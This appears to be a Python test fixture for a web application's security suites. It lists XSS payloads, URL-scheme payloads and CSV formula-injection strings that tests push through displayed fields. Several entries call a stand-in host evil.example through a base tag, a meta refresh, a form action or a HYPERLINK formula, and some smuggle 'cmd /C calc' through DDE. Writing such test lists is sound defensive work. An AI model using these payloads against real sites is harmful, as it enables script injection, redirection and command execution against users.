"""Hostile input the suites send through every displayed field.

Each XSS payload carries MARKER, so a checker can tell the payload's own markup from the
page's (see tests/security/htmlcheck.py). Extend freely; every test that uses the list
picks up new entries. Lengths stay within the shortest displayed field (a comment's name,
80 characters) where possible; longer ones are cut to fit by the tests that need it.
"""

MARKER = "xss-probe"

XSS_PAYLOADS: list[str] = [
    f'<script>alert("{MARKER}")</script>',
    f"<img src=x onerror=alert('{MARKER}')>",
    f"\"><svg onload=alert('{MARKER}')>",
    f"'><iframe src=\"javascript:alert('{MARKER}')\"></iframe>",
    f"[click {MARKER}](javascript:alert(1))",
    f"<a href=\"javascript:alert('{MARKER}')\">x</a>",
    f"<a href=\"&#106;avascript:alert('{MARKER}')\">x</a>",
    f"![{MARKER}](javascript:alert(1))",
    f"[{MARKER}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"<style>*{{background:url(//evil.example/{MARKER})}}</style>",
    f"<p style=\"background:url(javascript:alert('{MARKER}'))\">x</p>",
    f"</textarea><script>alert('{MARKER}')</script>",
    f"</title><script>alert('{MARKER}')</script>",
    f'" onmouseover="alert(\'{MARKER}\')" x="',
    f"' onfocus='alert(\"{MARKER}\")' autofocus='",
    f"<details open ontoggle=alert('{MARKER}')>",
    f"<<script>script>alert('{MARKER}')<</script>/script>",
    f"<!--<img src=\"--><img src=x onerror=alert('{MARKER}')//\">",
    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARKER}')>\">",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARKER}')>",
    f"<svg><a xlink:href=\"javascript:alert('{MARKER}')\"><text>x</text></a></svg>",
    f'<base href="https://evil.example/{MARKER}/">',
    f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARKER}">',
    f'<form action="https://evil.example/{MARKER}"><button>go</button></form>',
    f"<object data=\"javascript:alert('{MARKER}')\"></object>",
    f"https://example.com/\"onmouseover=\"alert('{MARKER}')",
    f"javascript:alert('{MARKER}')",
    f"{{{{ 7|add:'{MARKER}' }}}}{{% debug %}}",
    f"\u2028\u2029<script>alert('{MARKER}')</script>",
    # Spreadsheet formula injection (CSV export): must not start a cell as a formula.
    f'=HYPERLINK("https://evil.example/{MARKER}","open")',
    f"+cmd|' /C calc'!A0 {MARKER}",
    f"-2+3+cmd|' /C calc'!A0 {MARKER}",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {MARKER}",
]

# URL-shaped payloads for fields that only accept a web address (a commenter's website).
URL_PAYLOADS: list[str] = [
    f"javascript:alert('{MARKER}')",
    f"JaVaScRiPt:alert('{MARKER}')",
    f"data:text/html,<script>alert('{MARKER}')</script>",
    f"https://example.com/\"><script>alert('{MARKER}')</script>",
    f"https://example.com/\"onmouseover=\"alert('{MARKER}')",
    f"https://example.com/?q=<img src=x onerror=alert('{MARKER}')>",
    f"https://example.com/' onclick='alert(\"{MARKER}\")",
]
